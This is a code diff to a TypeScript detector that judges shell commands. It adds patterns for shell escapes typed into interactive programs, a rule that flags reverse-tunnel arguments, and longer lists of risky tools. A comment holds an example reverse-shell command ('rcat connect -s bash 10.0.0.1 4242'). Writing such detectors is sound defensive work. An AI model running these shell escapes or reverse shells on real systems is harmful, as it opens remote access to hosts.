@@ -141,13 +141,20 @@ const editor = (call: Call): void => {
 	stdinCommands(call);
 };
 
+/** A shell and nothing else, typed where something else is expected. */
+const TYPED_SHELL =
+	/^\s{0,8}(\^[A-Z]\s{0,2}){0,3}(reset;\s{0,2})?(sh X |shell |exec |spawn )?\s{0,2}((\/usr)?\/bin\/)?(ba|da|z|k)?sh( -[ip]{1,2}){0,2}( X)?(\s{1,2}[0-9]?[<>]&?\S{1,64}){0,3}( X)?\s{0,8}$/;
+
 /** Lines that an interactive program is fed: `!cmd` is a shell's. */
 function stdinCommands(call: Call): void {
 	if (call.stdin === null) return;
 	for (const line of call.stdin.split("\n").slice(0, 256)) {
 		const bang = /^\s{0,8}(?::|\\)?!\s{0,4}(.{1,4096})$/.exec(line) ?? /^\s{0,8}\.(?:shell|system)\s{1,4}(.{1,4096})$/.exec(line);
 		if (bang) call.script(bang[1] ?? "");
-		else if (/^[0-9,.$%]{0,8}[rwe]\s{1,4}[~/]/.test(line)) {
+		else if (TYPED_SHELL.test(line)) call.hit(shellRules["shell-escape"]);
+		else if (/^(w|wq)$/.test(line) && /^(ed|red|ex|vi|vim)$/.test(call.name)) {
+			for (const file of new Options(call.args, "-p").operands) call.writes(file);
+		} else if (/^[0-9,.$%]{0,8}[rwe]\s{1,4}[~/]/.test(line)) {
 			const path = line.replace(/^[0-9,.$%]{0,8}[rwe]\s{1,4}/, "");
 			if (/^[0-9,.$%]{0,8}w/.test(line)) call.writes(path);
 			else call.reads(path);
@@ -223,7 +230,7 @@ export const languageJudges: Judges = [
 	}),
 	each("guile csi racket sbcl clisp gosh emacs-lisp elisp clojure clj lein", interpreter("lisp", "-c -e -x --eval -eval -ex", "-l")),
 	each(
-		"julia R Rscript octave ghc ghci runhaskell elixir iex erl groovy groovysh scala jshell kotlin swift crystal v nim raku dart pwsh powershell osascript gnuplot sage maxima scilab ocaml ghci mono csharp fsharpi escript rakudo xmllint puppet smlnj poly yap swipl gprolog cobc gfortran factor forth gforth puppet",
+		"julia R Rscript octave ghc ghci runhaskell elixir iex erl groovy groovysh scala jshell kotlin swift crystal v nim raku dart pwsh powershell osascript gnuplot sage maxima scilab ocaml ghci mono csharp fsharpi escript rakudo xmllint puppet smlnj poly yap swipl gprolog dotnet cobc gfortran factor forth gforth puppet",
 		(call) => {
 			const options = new Options(call.args, "-e -E -c -eval --eval -exec -p -x -g --execute -Command -command -b");
 			const texts = [
@@ -234,7 +241,7 @@ export const languageJudges: Judges = [
 			if (/^(pwsh|powershell)$/.test(call.name) && call.args.some((arg) => /^-(e|en|enc|enco.{0,10})$/i.test(arg)))
 				call.hit(shellRules["unresolved-script"]);
 			if (options.operands[0] === "eval") call.code(call.name, options.operands.slice(1).join(" "));
-			if (call.stdin !== null) call.code(call.name, call.stdin);
+			if (call.stdin !== null && texts.length === 0) call.code(call.name, call.stdin);
 			const file = programOf(options.operands);
 			const content = file === undefined ? undefined : call.file(file);
 			if (content !== undefined) call.code(call.name, content);
@@ -253,7 +260,7 @@ export const languageJudges: Judges = [
 		});
 	}),
 	each(
-		"ed red less more most man pg info pinfo nano pico ftp gdb lldb mysql mariadb psql sqlite3 bc dc telnet rlogin ncftp mailx mail slsh dmsetup bpftrace crash jdb pdb zathura joe mutt irssi weechat hgweb cscope screen byobu ul top",
+		"ed red less more most man pg info pinfo nano pico ftp gdb lldb mysql mariadb psql sqlite3 bc dc telnet rlogin ncftp mailx mail slsh dmsetup bpftrace crash jdb pdb zathura joe mutt irssi weechat hgweb cscope screen byobu ul top pic hping3 ranger mc tdbtool tasksh jtag scanmem ginsh bconsole debugfs terraform lftp psftp smbclient tftp sftp redis-cli mongosh mongo msfconsole htop",
 		(call) => {
 			stdinCommands(call);
 			const options = new Options(call.args, "-e -c -ex -P -x -cmd --eval-command --init-eval-command --command --pager");
@@ -348,6 +355,8 @@ export function judgeShellWords(call: Call, known: boolean): void {
 		if (arg.length <= 4096) startedBy(call, arg, args[at + 1] ?? "", known);
 	});
 	if (call.stdin !== null && /syscmd\(/.test(call.stdin)) startedBy(call, call.stdin, "", known);
+	// A tunnel back, whatever its program is called.
+	if (args.some((arg) => /^R:(socks|\d{1,5}(:|$))/.test(arg))) call.hit(shellRules["shell-to-network"]);
 	// `rcat connect -s bash 10.0.0.1 4242`
 	if (args.some((arg) => PLAIN_SHELL.test(arg)) && args.some((arg) => /^(tcp:\/\/)?(\d{1,3}\.){3}\d{1,3}(:\d{1,5})?$/.test(arg)))
 		call.hit(shellRules["shell-to-network"]);
@@ -429,7 +438,7 @@ const READS_FILES =
 	/^(cat|less|more|head|tail|wc|sort|uniq|diff|cmp|comm|join|paste|jq|yq|bat|stat|file|ls|test|xxd|od|cut|tr|column|md5sum|sha256sum|shellcheck|prettier|eslint|black|yamllint|open|tree|nl|tac|tee|gofmt|rustfmt|kubectl|docker|chmod|rm|mv|cp|mkdir|cd|echo|printf|git|grep|rg|sed|awk)$/;
 /** Programs that run what lies in the directory that they are given or stand in. */
 const BUILDS = new Set(
-	"bundle bundler npm yarn pnpm pip pip3 gem cargo go easy_install composer gcc g++ cc clang tcc rustc javac java v crystal nim dotnet mvn gradle ant rake nmap ansible-playbook puppet facter aria2c strings latex pdflatex pandoc cobc m4 nginx julia bpftrace apt apt-get yum dnf pdb vagrant rtorrent dstat".split(
+	"bundle bundler npm yarn pnpm pip pip3 gem cargo go easy_install composer gcc g++ cc clang tcc rustc javac java v crystal nim dotnet mvn gradle ant rake nmap ansible-playbook puppet facter aria2c strings latex pdflatex pandoc cobc m4 nginx julia bpftrace apt apt-get yum dnf code pdb vagrant rtorrent dstat".split(
 		" ",
 	),
 );
